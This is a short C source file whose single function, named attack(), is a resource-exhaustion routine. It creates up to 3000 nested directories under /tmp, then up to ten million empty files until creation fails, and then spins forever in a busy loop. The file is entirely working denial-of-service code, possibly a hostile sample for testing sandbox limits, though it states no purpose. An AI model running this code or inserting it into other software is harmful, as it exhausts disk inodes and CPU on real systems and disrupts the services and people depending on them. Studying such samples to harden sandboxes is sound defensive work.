// Makes empty files and deep folders until there are no more
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
inline void attack() {
  (void)!chdir("/tmp");
  for (int i = 0; i < 3000 && mkdir("d", 0700) == 0; ++i) (void)!chdir("d");
  for (long i = 0; i < 10000000; ++i) {
    char name[32];
    snprintf(name, sizeof name, "%ld", i);
    const int file = open(name, O_CREAT | O_WRONLY, 0);
    if (file < 0) break;
    close(file);
  }
  for (;;) {
  }
}
